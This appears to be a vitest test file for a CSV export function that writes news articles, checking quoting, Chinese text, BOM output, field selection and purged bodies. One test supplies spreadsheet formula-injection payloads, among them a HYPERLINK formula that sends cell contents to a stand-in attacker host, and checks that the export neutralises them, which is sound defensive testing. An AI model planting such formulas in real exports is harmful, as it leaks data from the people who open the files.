import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { CsvFieldError, writeCsv, type CsvOptions } from '../../src/export/csv.js';
import type { Article } from '../../src/types.js';
import { FLAT_KEYS, TextSink, flatArticle, makeArticle } from '../fixtures/export/articles.js';

async function csvOf(articles: Article[], options: CsvOptions = {}): Promise<{ count: number; text: string }> {
  const sink = new TextSink();
  const count = await writeCsv(articles, sink, options);
  return { count, text: sink.text };
}

function rowsOf(text: string): Array<Record<string, string>> {
  return parse(text, { columns: true, bom: true });
}

describe('writeCsv', () => {
  it('writes a header and one CRLF-terminated row per article, every field, provenance flattened', async () => {
    const { count, text } = await csvOf([makeArticle()]);
    expect(count).toBe(1);
    expect(text.startsWith(`${FLAT_KEYS.join(',')}\r\n`)).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    const [row] = rowsOf(text);
    expect(row).toEqual(Object.fromEntries(Object.entries(flatArticle()).map(([key, value]) => [key, String(value)])));
  });

  it('round-trips Chinese text, quotes, commas, lone LF and CR line breaks through a CSV parser', async () => {
    const tricky = makeArticle({
      title: '他说："判决书，已送达"',
      body: '第一段，含逗号\n第二段 "引号" 与 \'单引号\'\r第三段\r\n第四段',
      author: 'Wang, Li',
      editor: '甲\n乙',
      source: null,
    });
    const { text } = await csvOf([tricky, makeArticle({ id: 2 })]);
    // RFC 4180: a cell holding a line break is quoted, even a lone LF in a CRLF file.
    expect(text).toContain(',"甲\n乙",');
    const rows = rowsOf(text);
    expect(rows).toHaveLength(2);
    expect(rows[0]!.title).toBe('他说："判决书，已送达"');
    expect(rows[0]!.body).toBe('第一段，含逗号\n第二段 "引号" 与 \'单引号\'\r第三段\r\n第四段');
    expect(rows[0]!.author).toBe('Wang, Li');
    expect(rows[0]!.editor).toBe('甲\n乙');
    expect(rows[0]!.source).toBe('');
    expect(rows[1]!.id).toBe('2');
  });

  it('neutralises cells a spreadsheet would run as a formula with a leading apostrophe', async () => {
    const hostile = makeArticle({
      title: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      source: '+1+1',
      author: '-2+3',
      editor: '@SUM(A1:A9)',
      site: '\t=1',
      category: '\r=1',
      views: 5,
    });
    const [row] = rowsOf((await csvOf([hostile])).text);
    expect(row!.title).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"click")');
    expect(row!.source).toBe("'+1+1");
    expect(row!.author).toBe("'-2+3");
    expect(row!.editor).toBe("'@SUM(A1:A9)");
    expect(row!.site).toBe("'\t=1");
    expect(row!.category).toBe("'\r=1");
    expect(row!.views).toBe('5');
    expect(row!.body.startsWith('5月6日')).toBe(true);
  });

  it('writes the UTF-8 byte order mark first only with bom', async () => {
    const withBom = (await csvOf([makeArticle()], { bom: true })).text;
    const without = (await csvOf([makeArticle()])).text;
    expect(withBom.charCodeAt(0)).toBe(0xfeff);
    expect(withBom.slice(1)).toBe(without);
    expect(without.startsWith('id,title,')).toBe(true);
  });

  it('writes only the chosen fields, in the chosen order', async () => {
    const { text } = await csvOf([makeArticle({ id: 42 })], { fields: ['title', ' id', 'provenance_sha256'] });
    expect(text).toBe(`title,id,provenance_sha256\r\n青松县人民法院召开年度审判工作会议,42,${'ab'.repeat(32)}\r\n`);
  });

  it('writes only the header when there are no articles', async () => {
    expect(await csvOf([], { fields: ['id', 'title'] })).toEqual({ count: 0, text: 'id,title\r\n' });
  });

  it('refuses an unknown field, naming it and the valid ones, before writing anything', async () => {
    const sink = new TextSink();
    const writing = writeCsv([makeArticle()], sink, { fields: ['title', 'headline'] });
    await expect(writing).rejects.toThrow(CsvFieldError);
    await expect(writing).rejects.toThrow(`unknown CSV field "headline"; valid fields: ${FLAT_KEYS.join(', ')}`);
    expect(sink.text).toBe('');
  });

  it('refuses an empty or repeated field list', async () => {
    await expect(csvOf([], { fields: [] })).rejects.toThrow('no CSV fields chosen; valid fields: id, title,');
    await expect(csvOf([], { fields: ['id', 'id'] })).rejects.toThrow('CSV field "id" is listed twice');
  });

  it('leaves the body cell empty for a purged article', async () => {
    const { text } = await csvOf([makeArticle({ status: 'purged', body: 'SECRET-BODY-TEXT' })]);
    expect(text).not.toContain('SECRET-BODY-TEXT');
    expect(rowsOf(text)[0]!.body).toBe('');
  });
});
